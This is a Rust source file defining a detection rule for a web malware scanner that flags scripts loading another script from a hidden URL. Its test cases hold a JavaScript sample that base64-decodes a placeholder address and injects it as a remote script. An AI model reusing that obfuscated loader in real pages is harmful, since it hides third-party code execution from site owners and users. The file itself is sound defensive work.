//! `script-from-hidden-address`.

use crate::facts::Atom;
use crate::signals::{Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "script-from-hidden-address",
    description: "The script loads another script from a URL hidden in its code.",
    severity: Severity::High,
    classes: ClassSet::MAGECART.union(ClassSet::MALWARE),
    needs: &[one(&[Atom::ScriptFromHidden])],
    within: 0,
    only_if: None,
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "var s=document.createElement('script');s.src=atob('aHR0cHM6Ly9jLmV4YW1wbGUvYS5qcw==');document.head.appendChild(s)",
        ],
        without: &[
            "var s=document.createElement('script');s.src='https://c.example/a.js';document.head.appendChild(s)",
        ],
    },
};
